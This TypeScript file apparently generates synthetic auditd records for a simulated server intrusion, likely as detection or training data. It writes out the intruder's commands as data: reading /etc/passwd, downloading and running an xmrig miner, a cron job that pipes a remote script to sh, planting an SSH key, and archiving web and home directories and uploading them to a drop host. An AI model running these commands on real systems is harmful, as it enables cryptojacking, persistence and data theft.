import { auditTime, type StoryLine } from "../story.ts";
import { dropHost, server, victim } from "./cast.ts";

interface Command {
  readonly atMs: number;
  readonly executable: string;
  readonly argv: readonly string[];
}

const loader = `http://${dropHost.name}/k/xmrig`;

/** What the intruder typed, in order; times are relative to the login. */
const commands: readonly Command[] = [
  { atMs: 2_000, executable: "/usr/bin/uname", argv: ["uname", "-a"] },
  { atMs: 3_200, executable: "/usr/bin/id", argv: ["id"] },
  { atMs: 4_100, executable: "/usr/bin/cat", argv: ["cat", "/etc/passwd"] },
  {
    atMs: 7_000,
    executable: "/usr/bin/curl",
    argv: ["curl", "-fsSL", loader, "-o", "/tmp/.x/kworkerd"],
  },
  { atMs: 9_000, executable: "/usr/bin/chmod", argv: ["chmod", "+x", "/tmp/.x/kworkerd"] },
  {
    atMs: 10_500,
    executable: "/tmp/.x/kworkerd",
    argv: ["/tmp/.x/kworkerd", "-o", "stratum+tcp://pool.example.net:3333", "--donate-level", "1"],
  },
  {
    atMs: 14_000,
    executable: "/usr/bin/bash",
    argv: [
      "bash",
      "-c",
      `(crontab -l; echo "*/5 * * * * curl -fsSL http://${dropHost.name}/k/r | sh") | crontab -`,
    ],
  },
  { atMs: 14_200, executable: "/usr/bin/crontab", argv: ["crontab", "-"] },
  {
    atMs: 16_000,
    executable: "/usr/bin/bash",
    argv: [
      "bash",
      "-c",
      "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEx4 k >> /home/deploy/.ssh/authorized_keys",
    ],
  },
  {
    atMs: 20_000,
    executable: "/usr/bin/tar",
    argv: ["tar", "czf", "/tmp/.x/d.tgz", "/var/www", "/home/deploy"],
  },
  {
    atMs: 23_000,
    executable: "/usr/bin/curl",
    argv: ["curl", "-s", "-T", "/tmp/.x/d.tgz", `http://${dropHost.address}/up/`],
  },
];

/** Audit writes an argument in hex when it holds a space, a quote or a control character. */
const auditArgument = (text: string): string =>
  /[\s"]/.test(text) ? Buffer.from(text, "utf8").toString("hex").toUpperCase() : `"${text}"`;

const execve = (command: Command, index: number) => (time: number) => {
  const stamp = `audit(${auditTime(time)}:${9_100 + index})`;
  const name = command.executable.split("/").at(-1) ?? "";
  const args = command.argv.map((text, at) => `a${at}=${auditArgument(text)}`).join(" ");
  return [
    `type=SYSCALL msg=${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=8 ` +
      `items=2 ppid=2200 pid=${2_300 + index} auid=${victim.uid} uid=${victim.uid} gid=${victim.uid} ` +
      `euid=${victim.uid} suid=${victim.uid} fsuid=${victim.uid} egid=${victim.uid} sgid=${victim.uid} ` +
      `fsgid=${victim.uid} tty=pts0 ses=${victim.session} comm="${name.slice(0, 15)}" ` +
      `exe="${command.executable}" subj=unconfined key="exec"\u001dARCH=x86_64 SYSCALL=execve ` +
      `AUID="${victim.name}" UID="${victim.name}" GID="${victim.name}"`,
    `type=EXECVE msg=${stamp}: argc=${command.argv.length} ${args}`,
    `type=CWD msg=${stamp}: cwd="/home/${victim.name}"`,
    `type=PATH msg=${stamp}: item=0 name="${command.executable}" inode=${7_000 + index} dev=fd:00 mode=0100755 ouid=0 ogid=0 nametype=NORMAL`,
    `type=PROCTITLE msg=${stamp}: proctitle=${Buffer.from(command.argv.join("\0"), "utf8").toString("hex").toUpperCase()}`,
  ]
    .map((line) => `node=${server.hostname} ${line}`)
    .join("\n");
};

/** Audit records of each command, five lines at once. */
export const intruderCommands = (loginMs: number): readonly StoryLine[] =>
  commands.map((command, index) => ({
    atMs: loginMs + command.atMs,
    source: "auditd",
    write: execve(command, index),
  }));
